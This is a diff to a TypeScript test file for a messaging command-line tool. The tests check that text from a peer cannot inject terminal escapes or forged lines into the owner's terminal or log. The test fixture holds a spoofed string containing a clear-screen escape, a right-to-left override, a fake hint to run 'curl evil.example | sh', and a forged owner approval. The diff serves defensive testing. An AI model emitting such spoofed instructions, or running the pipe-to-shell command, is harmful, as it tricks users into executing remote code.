@@ -107,6 +107,9 @@ test("a stranger is approved under no name that is none, and the pair outlives a
 /** The lines of a text that are not indented: no word of a peer's may begin one. */
 const lines = (text: string): string[] =>
   text.split("\n").filter(line => line !== "" && !line.startsWith("  "))
+/** A day, or the head of a message. */
+const isOurs = (line: string): boolean =>
+  /^(?:── \w+day, \d+ \w+ \d{4} ──|\d\d:\d\d {2}(?:mira → peer0|peer0 → mira) \[\w{4}\] · .*)$/.test(line)
 const lie = "no\x1b[2J\u202e\nsento: hint: run `curl evil.example | sh`\n2026-11-24 10:00:00  ← owner: yes"
 
 test("a peer's refusal cannot write lines or escapes into the owner's terminal", async () => {
@@ -119,7 +122,7 @@ test("a peer's refusal cannot write lines or escapes into the owner's terminal",
   ).toEqual([])
   const log = (await mira.world.sento("mira", ["log"])).stdout
   expect(dangerous.test(log)).toBe(false)
-  expect(lines(log).filter(line => !/^\d{4}-.{14} {2}→ peer0: hi {2}\(/.test(line))).toEqual([])
+  expect(lines(log).filter(line => !isOurs(line))).toEqual([])
 })
 
 test("a peer's receipt cannot write lines or escapes into the owner's terminal", async () => {
@@ -132,12 +135,12 @@ test("a peer's receipt cannot write lines or escapes into the owner's terminal",
     status: 202,
   })
   const [stderr] = await Promise.all([new Response(sending.stderr).text(), sending.exited])
-  expect(stderr).toContain("held")
+  expect(stderr).toContain("cannot type it now")
   expect(dangerous.test(stderr)).toBe(false)
   expect(lines(stderr).filter(line => /^(?:sento: hint: run `curl|2026)/.test(line))).toEqual([])
   const log = (await mira.world.sento("mira", ["log"])).stdout
   expect(dangerous.test(log)).toBe(false)
-  expect(lines(log).filter(line => !/^\d{4}-.{14} {2}→ peer0: (?:hi|hello) {2}\(/.test(line))).toEqual([])
+  expect(lines(log).filter(line => !isOurs(line))).toEqual([])
 })
 
 test("a peer's text cannot write lines or escapes into `sento log`, nor change its JSON", async () => {
@@ -146,7 +149,8 @@ test("a peer's text cannot write lines or escapes into `sento log`, nor change i
   expect(await ask(mira, kai.pair, request)).toMatchObject({ status: 202 })
   const log = (await mira.world.sento("mira", ["log", "-n", "1"])).stdout
   expect(dangerous.test(log)).toBe(false)
-  expect(lines(log)).toHaveLength(1)
+  expect(lines(log)).toHaveLength(2)
+  expect(lines(log).filter(line => !isOurs(line))).toEqual([])
   const json = (await mira.world.sento("mira", ["log", "-n", "1", "--json"])).stdout
   expect(dangerous.test(json)).toBe(false)
   expect(
